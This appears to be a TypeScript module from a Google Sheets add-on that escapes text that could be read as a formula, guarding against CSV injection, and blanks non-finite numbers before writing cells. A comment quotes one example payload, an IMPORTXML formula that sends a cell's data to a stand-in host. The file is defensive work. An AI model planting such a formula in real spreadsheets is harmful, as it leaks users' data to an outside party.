import { AddOnFormula, type CellValue, type SheetCell } from './types';

/**
 * Text Sheets would read as a formula when written with setValues: a leading "=", "+", "-" or "@"
 * (OWASP's CSV-injection list), also after leading whitespace or invisible characters, and their
 * full-width forms, which an Indonesian or Japanese input method may type. A policy label such as
 * `=IMPORTXML("http://x/?"&A2,"//a")` would otherwise run in every result row and send data away.
 */
const FORMULA_START = /^[\s\u200B-\u200D\u2060]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

export const startsLikeFormula = (text: string): boolean => FORMULA_START.test(text);

/**
 * Text written so that it stays text: a leading apostrophe, which Sheets keeps out of the value it
 * shows ("'=1+1" shows =1+1, "'+62 812" shows +62 812).
 */
export const asData = (text: string): string => (startsLikeFormula(text) ? `'${text}` : text);

/**
 * The value a port hands to setValues for one cell: data as data, and only an AddOnFormula as a formula.
 * A number that is not finite (NaN, Infinity) is never written: Sheets would show it as a huge number or
 * #NUM!, and a chart over it breaks. The scoring reports such values as data problems before they get
 * here (e.g. PIPE_ACTIVITY_MINUTES_TOO_LARGE); this is the last guard, the cell stays blank.
 */
export function writtenValue(cell: SheetCell): CellValue {
  if (typeof cell === 'string') return asData(cell);
  if (typeof cell === 'number' && !Number.isFinite(cell)) return '';
  if (cell instanceof AddOnFormula) return cell.formula;
  return cell;
}

/** A whole table as setValues takes it. */
export const writtenTable = (rows: readonly (readonly SheetCell[])[]): CellValue[][] =>
  rows.map((row) => row.map(writtenValue));
